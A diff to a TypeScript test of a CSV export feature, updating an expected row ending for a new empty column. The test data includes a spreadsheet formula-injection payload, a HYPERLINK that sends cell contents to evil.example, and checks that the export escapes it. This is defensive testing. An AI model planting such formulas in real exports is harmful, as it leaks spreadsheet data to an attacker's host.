@@ -185,7 +185,7 @@ describe('CSV export', () => {
     const csv = (await send(t, 'GET', '/export?format=csv')).body;
     const row = csv.split('\r\n').find((line) => line.startsWith('/a.jpg,'))!;
     expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open me"")"`);
-    expect(row.endsWith(",'@attacker,")).toBe(true); // updated_by, then the empty `missing` cell
+    expect(row.endsWith(",'@attacker,,")).toBe(true); // updated_by, then the empty `missing` and `assignee` cells
     const json = JSON.parse((await send(t, 'GET', '/export?format=json')).body) as { path: string; notes: string; updated_by: string }[];
     expect(json.find((r) => r.path === '/a.jpg')).toMatchObject({ notes: note, updated_by: '@attacker' });
   });
